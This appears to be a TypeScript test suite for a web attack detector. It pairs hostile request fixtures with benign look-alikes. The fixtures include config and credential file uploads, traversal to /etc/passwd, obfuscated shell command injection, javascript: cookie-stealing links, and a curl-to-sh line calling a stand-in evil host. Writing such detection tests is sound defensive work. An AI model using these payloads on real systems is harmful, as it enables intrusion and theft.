import { test } from 'node:test';
import assert from 'node:assert/strict';
import { everywhere, inspect, type Req } from './helpers.js';

// Shapes added to raise recall on the CRS 930-944 families, each beside look-alikes that must stay below the threshold.

const rules = (r: ReturnType<typeof inspect>): string => JSON.stringify(r.findings.map((f) => `${f.rule}:${f.score}@${f.location}`));

const multipart = (filename: string): Req => ({
  method: 'POST',
  contentType: 'multipart/form-data; boundary=XyZ',
  body: ['--XyZ', `Content-Disposition: form-data; name="file"; filename="${filename}"`, 'Content-Type: text/plain', '', 'hello', '--XyZ--', ''].join('\r\n'),
});

test('uploads named like a server, application or login configuration file are flagged', () => {
  const names = ['.htaccess', '.user.ini', 'web.config', 'wp-config.php', 'wp-config-php.bak', 'wp-config_php.txt', 'wp-config.php.old', '.boto', 'authorized_keys', '.bashrc', 'config.yml ', 'parameters.yml.', '../../.htaccess'];
  for (const n of names) {
    const h = inspect({ headers: { 'x-filename': n } });
    assert.ok(h.attack, `x-filename ${JSON.stringify(n)} → ${rules(h)}`);
    // (the multipart parser trims a quoted name's spaces)
    const m = inspect(multipart(n));
    assert.ok(m.attack || n.endsWith(' '), `multipart ${JSON.stringify(n)} → ${rules(m)}`);
  }
  // a framework's config name without the trailing-space evasion is also a user's file name: paranoia 2
  assert.ok(!inspect({ headers: { 'x-filename': 'config.yml' } }).attack);
  assert.ok(inspect({ headers: { 'x-filename': 'config.yml' } }, { paranoia: 2 }).attack);
  // the gsutil/boto credentials file is a file worth reading too
  assert.ok(inspect({ query: 'file=../../home/deploy/.boto' }).attack);
});

test('ordinary uploads and names that contain a config name stay clean', () => {
  const names = ['abc.botox.jpg', 'report.pdf', 'export (1).csv', 'my-config.yml.png', 'wp-configurator-guide.pdf', 'htaccess-notes.txt', 'settings.png', 'profile.jpg', 'config.json', 'docker-compose.yml.txt'];
  for (const n of names) {
    for (const r of [{ headers: { 'x-filename': n } }, multipart(n)]) assert.ok(!inspect(r).attack, `${n} → ${rules(inspect(r))}`);
  }
  // the name in another header or field is not an upload
  assert.ok(!inspect({ headers: { 'x-config-name': 'config.yml ' } }).attack);
});

test('a command word built from a fragment the value assigns is flagged', () => {
  const attacks = ["v='u';cu$v\\\\r\\l google.com", 'a=ho;w$a\'ami\'', 'x=ca;${x}t notes.txt', "p=\"in\";p${p}g 203.0.113.9", 'q=ls&&w$q'];
  for (const a of attacks) {
    for (const r of everywhere(a)) assert.ok(inspect(r).attack, `${a} → ${rules(inspect(r))}`);
  }
});

test('assignments followed by whole words or arguments stay clean', () => {
  const benign = ['dir=/tmp; cp x $dir/y', 'name=world; echo hello$name', 'price=5;$price total', 'a=1;b=2;$a$b', 'prefix=app; name=my$prefix'];
  for (const b of benign) {
    for (const r of everywhere(b)) assert.ok(!inspect(r).attack, `${b} → ${rules(inspect(r))}`);
  }
});

test('a command after doubled or mixed separators at the start of a value is flagged like one after a single one', () => {
  const attacks = [';;id', '| ;whoami', '&& ;uname -a', '; ;top', ';;dd if=/dev/zero of=/tmp/x', '|;ifconfig'];
  for (const a of attacks) {
    for (const r of everywhere(a)) assert.ok(inspect(r).attack, `${a} → ${rules(inspect(r))}`);
  }
  const benign = ['; ; see above', ';; TODO', 'a;;b', 'x ;; y', 'Notes: see list; then top it up with water and salt, stir for a minute'];
  for (const b of benign) {
    for (const r of everywhere(b)) assert.ok(!inspect(r).attack, `${b} → ${rules(inspect(r))}`);
  }
});

test('dot-dot paths, script URLs and empty calls quoted in code spans of a sentence are mentions', () => {
  const benign = [
    'Dot segments are removed without changing the target: leading `..` segments are kept (`a/../b` → `b`, `../x` → `../x`, `x/..` → `./`).',
    'Schemes are never percent-decoded, so an input such as `%6Aavascript:alert(1)` is reported as malformed instead of being parsed as `javascript:`.',
    'The parser rejects `javascript:alert(1)` and `vbscript:msgbox(1)` when they are given as the base URL of a request.',
    '`normalize()` leaves it unchanged, and both `resolve()` and `serialize()` throw for such an input.',
  ];
  for (const b of benign) {
    for (const r of everywhere(b)) assert.ok(!inspect(r).attack, `${b} → ${rules(inspect(r))}`);
  }
  const attacks = [
    // outside the spans, or a file worth reading, or a link target
    'Please see `notes` at ../../../../etc/passwd for the details of the setup we use',
    'Please open `a/../../../../etc/passwd` for the details of the setup we use',
    'Nice write-up, [click here](javascript:alert(document.cookie)) and see the `code` part',
    'see `x` then <a href="javascript:alert(1)">this link</a> for the details',
    '`javascript:alert(1)`',
    'javascript:alert(1)',
    '`../../../../etc/passwd`',
  ];
  for (const a of attacks) {
    for (const r of everywhere(a)) assert.ok(inspect(r).attack, `${a} → ${rules(inspect(r))}`);
  }
});

test('a text/plain body in form shape (enctype="text/plain") is read pair by pair', () => {
  const plain = (body: string): Req => ({ method: 'POST', body, contentType: 'text/plain' });
  for (const b of ['test=org.omg.CORBA', 'name=Sam\r\ntype=org.omg.CORBA.ORB', 'a=1&cls=org.omg.CORBA']) assert.ok(inspect(plain(b)).attack, `${b} → ${rules(inspect(plain(b)))}`);
  for (const b of ['Hello team,\nthe value x=5 is fine\nthanks', 'name=Sam\r\nnote=see org.omg.CORBA docs for the ORB', 'k=v', 'total=5&tax=1']) assert.ok(!inspect(plain(b)).attack, `${b} → ${rules(inspect(plain(b)))}`);
});

test('a whole value that is one code span of a setup step is high, not critical; shell syntax or code in it is not', () => {
  const steps = ['`npm i fastq --save`', '`npm install function-bind`', '`node . --foo barbar --config config.json`', '`yarn add -D typescript`', '`pip install -r requirements.txt`', '`node server.js --port 3000`'];
  for (const b of steps) {
    for (const r of everywhere(b)) {
      assert.ok(!inspect(r).attack, `${b} → ${rules(inspect(r))}`);
      assert.ok(inspect(r, { paranoia: 2 }).attack, `${b} at paranoia 2`);
    }
  }
  const attacks = ['`npm install evil; id`', '`npm i x && curl evil.example/a | sh`', '`node -e "require(\'child_process\').exec(\'id\')"`', '`node --eval process.exit()`', '`id`', '`cat /etc/hostname`', '`npm i $(whoami)`', '`curl evil.example/x`', 'x `npm i fastq --save`'];
  for (const a of attacks) {
    for (const r of everywhere(a)) assert.ok(inspect(r).attack, `${a} → ${rules(inspect(r))}`);
  }
});
